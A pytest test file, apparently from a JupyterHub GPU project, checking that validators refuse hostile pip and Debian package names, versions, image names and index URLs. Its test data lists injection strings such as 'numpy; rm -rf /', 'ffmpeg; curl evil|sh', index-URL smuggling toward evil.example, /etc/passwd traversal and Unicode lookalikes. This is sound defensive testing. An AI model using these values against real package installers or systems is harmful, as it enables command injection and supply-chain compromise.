"""Validation of package names, versions, Debian names, image names and index URLs."""

from __future__ import annotations

import pytest

from jupyterhub_gpu.core.saving.data import InvalidPackage, PipRequirement
from jupyterhub_gpu.core.saving.validate import (
    apt_names,
    image_name,
    index_url,
    pip_name,
    pip_requirement,
    pip_version,
    redact_url,
    url_under,
)
from jupyterhub_gpu.errors import ConfigError

pytestmark = pytest.mark.unit


@pytest.mark.parametrize(
    ("name", "canonical"),
    [
        ("numpy", "numpy"),
        ("Foo_Bar.baz", "foo-bar-baz"),
        ("zope.interface", "zope-interface"),
        ("a", "a"),
        ("A1", "a1"),
        ("x" * 100, "x" * 100),
    ],
)
def test_valid_names_are_canonicalised(name: str, canonical: str) -> None:
    assert pip_name(name) == canonical


HOSTILE_NAMES = [
    "",
    " numpy",
    "numpy ",
    "numpy\n",
    "-numpy",
    "numpy-",
    "--index-url=https://evil.example/simple",
    "--extra-index-url",
    "-r/etc/passwd",
    "numpy; rm -rf /",
    "numpy$(id)",
    "numpy`id`",
    "numpy|sh",
    "numpy&&id",
    "numpy>1.0",
    "numpy==1.0",
    "numpy[extra]",
    "numpy @ https://evil.example/numpy.whl",
    "https://evil.example/numpy.whl",
    "file:///etc/passwd",
    "../../etc/passwd",
    "./local",
    "/abs/path",
    "nu\x00mpy",
    "\u212aeras",  # Kelvin sign, folds to 'k' under re.IGNORECASE without re.ASCII
    "n\u0443mpy",  # Cyrillic small u
    "numpy\u200b",  # zero-width space
    "\uff4e\uff55\uff4d\uff50\uff59",  # fullwidth "numpy"
    "x" * 101,
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_names_are_refused_with_a_sentence(name: str) -> None:
    with pytest.raises(InvalidPackage) as e:
        pip_name(name)
    message = str(e.value)
    assert message.endswith("try again.")
    assert len(message) < 300  # the user's text is cut, never echoed whole


@pytest.mark.parametrize(
    ("version", "normalised"),
    [
        ("1.0", "1.0"),
        ("2.3.1+cu121", "2.3.1+cu121"),
        ("1!2.0", "1!2.0"),
        ("1.0.post1.dev2", "1.0.post1.dev2"),
        ("1.0RC1", "1.0rc1"),
        ("v1.0", "1.0"),
        ("1.0+abc_def", "1.0+abc.def"),
    ],
)
def test_valid_versions_are_normalised(version: str, normalised: str) -> None:
    assert pip_version(version) == normalised


@pytest.mark.parametrize(
    "version",
    [
        "",
        " 1.0",
        "1.0 ",
        "1.0\n",
        "1.0;rm -rf /",
        "1.0 --index-url=https://evil.example",
        "$(id)",
        "latest",
        "1.0 || true",
        "\uff11.0",  # fullwidth digit one
        "\u0663.\u0661",  # Arabic-Indic digits
        "1." + "0" * 70,  # huge
        "9" * 65,
    ],
)
def test_hostile_versions_are_refused(version: str) -> None:
    with pytest.raises(InvalidPackage, match="not a valid Python package version"):
        pip_version(version, "'x'")


def test_a_requirement_is_rebuilt_from_parsed_parts() -> None:
    assert pip_requirement("Foo_Bar", "01.0") == PipRequirement("foo-bar", "1.0")
    assert pip_requirement("torch", "2.3.1+cu121").spec == "torch==2.3.1+cu121"


@pytest.mark.parametrize(
    ("names", "allowed", "result"),
    [
        (["libsndfile1", "ffmpeg"], {"ffmpeg", "libsndfile1"}, ("ffmpeg", "libsndfile1")),
        (["ffmpeg", "ffmpeg"], {"ffmpeg"}, ("ffmpeg",)),
        ([], set(), ()),
        (["g++"], {"g++"}, ("g++",)),
    ],
)
def test_debian_names_on_the_allow_list_pass(
    names: list[str], allowed: set[str], result: tuple[str, ...]
) -> None:
    assert apt_names(names, allowed) == result


@pytest.mark.parametrize(
    ("name", "match"),
    [
        ("curl", "not on this hub's list"),
        ("FFMPEG", "not a Debian package name"),
        ("ffmpeg; curl evil|sh", "not a Debian package name"),
        ("ffmpeg\nRUN curl", "not a Debian package name"),
        ("-o=APT::Foo", "not a Debian package name"),
        ("./evil.deb", "not a Debian package name"),
        ("../x", "not a Debian package name"),
        ("ffmpeg=1.0", "not a Debian package name"),
        ("f", "not a Debian package name"),
        ("\ufb00mpeg", "not a Debian package name"),
    ],
)
def test_debian_names_off_the_list_or_malformed_are_refused(name: str, match: str) -> None:
    with pytest.raises(InvalidPackage, match=match):
        apt_names(["ffmpeg", name], {"ffmpeg", "curl-not-this", "FFMPEG"})


@pytest.mark.parametrize("name", ["my-env", "env2", "a", "torch.2-3_x", "a" * 40])
def test_image_names(name: str) -> None:
    assert image_name(name) == name


@pytest.mark.parametrize(
    "name",
    ["", "My-Env", "-env", "env-", "a..b", "a/b", "../x", "a b", "a:b", "a" * 41, "é", "a\n"],
)
def test_bad_image_names_are_refused(name: str) -> None:
    with pytest.raises(InvalidPackage, match="choose 1-40 lowercase"):
        image_name(name)


def test_index_urls_of_the_admin() -> None:
    assert index_url("https://pypi.example.org/simple/", "x") == "https://pypi.example.org/simple/"
    assert index_url("http://mirror:8080/simple", "x")
    for bad in [
        "ftp://x/simple",
        "file:///srv/wheels",
        "https:///simple",
        "https://x/s?a=1",
        "https://x/s#f",
        "https://x/s imple",
        42,
    ]:
        with pytest.raises(ConfigError, match="must be an http"):
            index_url(bad, "GPUDockerSpawner.save_index_url")  # type: ignore[arg-type]


def test_credentials_never_appear_in_messages() -> None:
    with pytest.raises(ConfigError) as e:
        index_url("ftp://user:s3cret@x/simple", "where")
    assert "s3cret" not in str(e.value)
    assert redact_url("https://u:p@host:8443/simple") == "https://***@host:8443/simple"
    assert redact_url("https://host/simple") == "https://host/simple"


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://download.pytorch.org/whl/cu121/torch-2.3.1.whl", True),
        ("https://download.pytorch.org/whl", False),
        ("https://download.pytorch.org/whlx/evil.whl", False),
        ("https://download.pytorch.org.evil.example/whl/x.whl", False),
        ("https://download.pytorch.org/whl/../evil/x.whl", False),
        ("https://download.pytorch.org/whl/%2e%2e/evil/x.whl", False),
        ("https://user:pw@download.pytorch.org/whl/x.whl", False),
        ("file:///home/alice/x.whl", False),
        ("git+https://download.pytorch.org/whl/x", False),
        ("https://download.pytorch.org/whl/x y.whl", False),
    ],
)
def test_urls_under_an_allowed_index(url: str, ok: bool) -> None:
    assert url_under(url, ["https://download.pytorch.org/whl/"]) is ok
    assert url_under(url, []) is False
